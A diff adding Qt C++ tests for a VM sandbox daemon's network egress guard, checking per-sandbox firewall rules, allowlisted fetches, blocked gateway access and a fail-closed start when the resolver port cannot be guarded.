+    QVERIFY(m_daemon.ctl({u"status"_s}).json().toObject().value("egress"_L1).toObject().value("sandboxes"_L1).toInt() >= 2);
+    QCOMPARE(nftTable().count("jump sb"), guarded);
+    const Run again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/restarted"_s});
+    QCOMPARE(again.out, QByteArray("hello from upstream\n"));
+    const Run gw = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:2222/"_s.arg(m_aGw)});
+    QVERIFY(gw.exitCode != 0);
+
+    // Killing B takes its rules away; A's stay and A still works.
+    QCOMPARE(m_daemon.ctl({u"kill"_s, m_b}).exitCode, 0);
+    QCOMPARE(nftTable().count("jump sb"), guarded - 1);
+    QVERIFY(!nftTable().contains(m_bGw.toLatin1()));
+    const Run still = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/still"_s});
+    QCOMPARE(still.out, QByteArray("hello from upstream\n"));
+}
+
+void TestEgressVm::aSandboxWhoseNetworkCannotBeGuardedDoesNotStart()
+{
+    // Something else holds the resolver's port on the new sandbox's gateway: the broker cannot
+    // guard it, so the guest must not start (fail closed), and the error says why.
+    const QString c = uniqueName(u"evm-c"_s);
+    const CtlResult created = m_daemon.ctl({u"create"_s, c, u"--memory"_s, u"256"_s});
+    QCOMPARE(created.exitCode, 0);
+    const QString cIp = created.json().toObject().value("ip"_L1).toString();
+    const QString cGw = cIp.section(u'.', 0, 2) + u'.' + QString::number(cIp.section(u'.', 3, 3).toInt() - 1);
+    Sentinel squatter;
+    QVERIFY2(squatter.start(SOCK_DGRAM, cGw, 15053), "cannot bind the resolver port on the new gateway");
+    const CtlResult start = m_daemon.ctl({u"start"_s, c});
+    QCOMPARE(start.exitCode, 1);
+    QVERIFY2(start.err.contains("network cannot be guarded") && start.err.contains("15053"), start.err.constData());
+    QCOMPARE(sandboxRow(c).value("state"_L1).toString(), u"stopped"_s);
+    QCOMPARE(m_daemon.ctl({u"rm"_s, c}).exitCode, 0);
+}
+
+QTEST_GUILESS_MAIN(TestEgressVm)
+#include "test_egressvm.moc"
